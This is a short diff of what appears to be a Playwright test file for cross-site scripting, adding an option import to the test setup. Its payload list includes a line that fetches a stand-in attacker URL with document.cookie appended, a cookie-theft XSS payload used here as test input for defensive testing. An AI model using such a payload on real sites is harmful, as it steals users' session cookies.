@@ -1,9 +1,9 @@
 import type { Page } from 'playwright/test';
 import { Person, person, request } from '../support/people.ts';
 import type { TestServer } from '../support/server.ts';
-import { expect, log, row, test } from './people.ts';
+import { expect, log, row, test, still } from './people.ts';
 
-test.use({ sharesServer: true });
+test.use({ sharesServer: true, ...still });
 
 const calls = ['xss()', 'alert(1)', "fetch('https://evil.example/'+document.cookie)"];
 const shapes: ((call: string) => string)[] = [
